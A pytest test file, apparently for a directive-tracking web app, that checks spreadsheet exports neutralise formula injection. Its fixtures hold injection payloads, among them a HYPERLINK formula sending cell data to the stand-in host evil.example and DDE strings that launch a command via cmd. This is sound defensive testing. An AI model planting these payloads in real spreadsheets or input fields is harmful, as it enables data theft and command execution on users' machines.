"""Finding 1 (round 2): user text reaches the leaders' spreadsheets as text, never as a formula.

A unit name, a task's action, a coordinating unit and a result note that start with = + - @
tab or CR are exported through the three routes; the XLSX must hold no <f> element and every
such cell must be a string cell, and the CSV cells must be neutralised (leading apostrophe).
"""
import csv
import io
import re
import zipfile
from datetime import date
from datetime import timedelta

import pytest
from openpyxl import load_workbook

from tracker.models import Directive
from tracker.models import Task
from tracker.models import TaskCoUnit

HYPERLINK = '=HYPERLINK("http://evil.example/?x="&B4,"Bấm vào đây")'
DDE = "=cmd|' /C calc'!A0"
PAYLOADS = (HYPERLINK, DDE, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1+1", "\r=1+1")


@pytest.fixture
def poisoned(session, make_unit, make_user):
    lead = make_unit(DDE, code="EVIL")
    co = make_unit("@SUM(A1:A9)", code="EVIL2")
    leader = make_user("lanhdao", "leader")
    directive = Directive(code="=1+1", kind="chi_thi", title=HYPERLINK, source_text="Giao Sở.", state="published",
                          issued_date=date(2025, 1, 2))
    session.add(directive)
    session.commit()
    overdue = date.today() - timedelta(days=3)
    for payload in PAYLOADS:
        task = Task(directive_id=directive.id, lead_unit_id=lead.id, action=payload, deadline=overdue,
                    result_note=payload)
        session.add(task)
        session.flush()
        session.add(TaskCoUnit(task_id=task.id, unit_id=co.id))
    session.commit()
    return leader


def _xlsx_parts(data: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return {n: archive.read(n).decode("utf-8") for n in archive.namelist() if n.startswith("xl/worksheets/")}


def _assert_xlsx_safe(data: bytes):
    sheets = _xlsx_parts(data)
    assert sheets
    for name, xml in sheets.items():
        assert not re.search(r"<(\w+:)?f[ >/]", xml), f"formula element in {name}"
    wb = load_workbook(io.BytesIO(data))
    seen = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and any(p.strip() in cell.value for p in ("HYPERLINK", "cmd|", "SUM(")):
                    seen += 1
                    assert cell.data_type == "s", (ws.title, cell.coordinate, cell.value)
                    assert cell.value.startswith("'"), (ws.title, cell.coordinate, cell.value)
    return seen


def test_tasks_xlsx_holds_no_formula(client, login, poisoned):
    login(poisoned)
    response = client.get("/exports/tasks.xlsx")
    assert response.status_code == 200
    assert _assert_xlsx_safe(response.data) >= 3 * len(PAYLOADS) // 2


def test_dashboard_xlsx_holds_no_formula(client, login, poisoned):
    login(poisoned)
    response = client.get("/dashboard/export.xlsx")
    assert response.status_code == 200
    # the unit name on the summary sheet and the overdue tasks on the second sheet
    assert _assert_xlsx_safe(response.data) >= len(PAYLOADS)


@pytest.mark.parametrize("path", ["/exports/tasks.csv", "/dashboard/export.csv"])
def test_csv_cells_are_neutralised(client, login, poisoned, path):
    login(poisoned)
    response = client.get(path)
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
    checked = 0
    for row in rows[1:]:
        for value in row:
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (path, value)
            checked += value.startswith("'")
    assert checked >= (1 if "dashboard" in path else 3 * len(PAYLOADS))
